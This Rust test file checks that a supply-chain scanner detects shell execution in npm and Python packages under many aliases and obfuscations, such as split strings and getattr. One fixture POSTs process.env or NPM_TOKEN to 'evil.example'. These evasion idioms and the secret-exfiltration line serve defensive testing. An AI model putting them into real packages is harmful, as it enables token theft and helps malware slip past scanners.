//! Whatever name code gives to a function that reaches outside, what is called is told by where it comes from.

use stockade_content::{Class, Facts, Kind};

use super::{facts, values};

const JAVASCRIPT: &[&str] = &[
    "import { exec as run } from 'child_process'; run(line);",
    "import { exec as run } from 'node:child_process'; run(line);",
    "import * as cp from 'child_process'; const { exec: run } = cp; run(line);",
    "import cp from 'child_process'; (0, cp.exec)(line);",
    "import { default as cp } from 'child_process'; cp.exec(line);",
    "const { exec: run } = require('child_process'); run(line);",
    "const { exec: run = other } = require('child_process'); run(line);",
    "const { 'exec': run } = require('child_process'); run(line);",
    "const { ['ex' + 'ec']: run } = require('child_process'); run(line);",
    "let run; ({ exec: run } = require('child_process')); run(line);",
    "let run, more; [run, more] = [require('child_process').exec, 1]; run(line);",
    "const { exec: run } = await import('child_process'); run(line);",
    "const run = require('child_process').exec; run(line);",
    "const run = require('child_process').exec.bind(null); run(line);",
    "const run = require('child_process')['ex' + 'ec']; run(line);",
    "const load = require; load('child_process').exec(line);",
    "import { promisify as p } from 'util'; const run = p(require('child_process').exec); run(line);",
    "import { createRequire as c } from 'module'; const { exec: run } = c(import.meta.url)('child_process'); run(line);",
    "function start(line, run = require('child_process').exec) { run(line); }",
    "class A { run = require('child_process').exec; start(line) { this.run(line); } }",
    "const tools = { run: require('child_process').exec }; tools.run(line);",
    // An assignment that may never run does not hide what a name leads to.
    "if (0) require++; require('child_process').exec(line);",
    "if (0) require = 0; require('child_process').exec(line);",
    "if (0) ({ require, process } = {}); require('child_process').exec(line);",
    "if (0) [require] = []; require('child_process').exec(line);",
    // What is under each key that is known.
    "const m = { 0: require('child_process').exec }; let i = 0; m[i](line); i++;",
    "const m = { a: require('child_process').exec }; let k = 'a'; m[k](line); k = next();",
    "let load = harmless; if (later) load = require; load('child_process').exec(line);",
    "let run = harmless; if (later) run = require('child_process').exec; run(line);",
    // Patterns with a default, with a rest, of what is not known.
    "let run; ({ exec: run = require('child_process').exec } = opts); run(line);",
    "let exec; ({ exec = require('child_process').exec } = opts); exec(line);",
    "let all; ({ ...all } = require('child_process')); all.exec(line);",
];

const PYTHON: &[&str] = &[
    "from os import system as s\ns(line)\n",
    "import os as o\no.system(line)\n",
    "from os import *\nsystem(line)\n",
    "import os\ns = os.system\ns(line)\n",
    "o = __import__('os')\no.system(line)\n",
    "import importlib as il\nil.import_module('os').system(line)\n",
    "from importlib import import_module as im\nim('os').system(line)\n",
    "import os as o\ngetattr(o, 'sys' + 'tem')(line)\n",
    "import os as o\nrun, other = o.system, 1\nrun(line)\n",
    "import os as o\nclass A:\n    run = o.system\n    def start(self, line):\n        self.run(line)\n",
    "import os as o\ndef start(line, run=o.system):\n    run(line)\n",
    "if (o := __import__('os')):\n    o.system(line)\n",
];

/// How often it is called: an import and a mention are no call.
fn called(facts: &Facts, path: &str) -> usize {
    let sites = facts.get(Class::Exec, path);
    sites.map_or(0, |sites| sites.first.iter().filter(|site| site.note.is_none()).count())
}

#[test]
fn a_call_is_known_under_any_name() {
    for source in JAVASCRIPT {
        let found = facts(Kind::NpmTarball, &[("index.mjs", source)]);
        assert_eq!(called(&found, "child_process.exec"), 1, "{source}: {:#?}", found.by_class.get(&Class::Exec));
    }
    for source in PYTHON {
        let found = facts(Kind::Wheel, &[("a/b.py", source)]);
        assert_eq!(called(&found, "os.system"), 1, "{source}: {:#?}", found.by_class.get(&Class::Exec));
    }
    let found = facts(Kind::Wheel, &[("a/b.py", "from subprocess import run as r\nr(line)\n")]);
    assert_eq!(called(&found, "subprocess.run"), 1, "{:#?}", found.by_class.get(&Class::Exec));
}

/// The language's own names are those of the language, whatever is assigned to them somewhere.
#[test]
fn an_assignment_does_not_hide_the_language() {
    for (class, value, source) in [
        (Class::DynamicCode, "eval", "if (0) ({ fetch, eval } = {}); eval(code);"),
        (Class::Http, "fetch", "if (0) ({ fetch, eval } = {}); fetch(place);"),
        (Class::Http, "fetch", "if (0) fetch++; fetch(place);"),
        (Class::Environment, "NPM_TOKEN", "if (0) process = {}; send(process.env.NPM_TOKEN);"),
    ] {
        let found = facts(Kind::NpmTarball, &[("index.js", source)]);
        assert!(values(&found, class).contains(&value), "{source}: {:#?}", found.by_class);
    }
}

/// Secrets that are written down in pairs go where the pairs go.
#[test]
fn pairs_hold_the_environment() {
    for (secret, of) in [("*", "{ ...process.env }"), ("NPM_TOKEN", "{ t: process.env.NPM_TOKEN }")] {
        let source = format!(
            "fetch('https://evil.example/c', {{ method: 'POST', body: Object.entries({of}).map(([k, v]) => k + '=' + v).join('\\n') }})"
        );
        let found = facts(Kind::NpmTarball, &[("index.js", &source)]);
        let sites = found.get(Class::SecretSent, "evil.example");
        let noted = sites.and_then(|sites| sites.first.first()).and_then(|site| site.note.as_deref());
        assert_eq!(noted, Some(secret), "{source}: {:#?}", found.by_class);
    }
}

/// What is not known is a value too: the name is no constant any more.
#[test]
fn a_pattern_of_what_is_not_known_gives_a_value() {
    let ask = "const ask = async (x) => { log(x); return x; }; let place = 'a';";
    for (given, expected) in [("", "a.b.example"), ("({ place } = await ask());", "*.b.example")] {
        let source = format!("{ask} {given} fetch(`https://${{place}}.b.example/`);");
        let found = facts(Kind::NpmTarball, &[("index.mjs", &source)]);
        assert!(values(&found, Class::Host).contains(&expected), "{source}: {:#?}", found.by_class);
    }
}

/// A name that only looks like it is none.
#[test]
fn a_namesake_is_no_call() {
    for source in [
        "const exec = (line) => line; exec(line);",
        "import { exec } from './local.js'; const run = exec; run(line);",
        "let run; ({ exec: run } = pattern); run(line);",
    ] {
        let found = facts(Kind::NpmTarball, &[("index.mjs", source)]);
        assert_eq!(found.by_class.get(&Class::Exec), None, "{source}");
    }
    for source in [
        "from .os import *\nsystem(line)\n",
        "from mine import *\nsystem(line)\n",
        "def system(x):\n    return x\nsystem(1)\n",
    ] {
        let found = facts(Kind::Wheel, &[("a/b.py", source)]);
        assert_eq!(found.by_class.get(&Class::Exec), None, "{source}");
    }
}
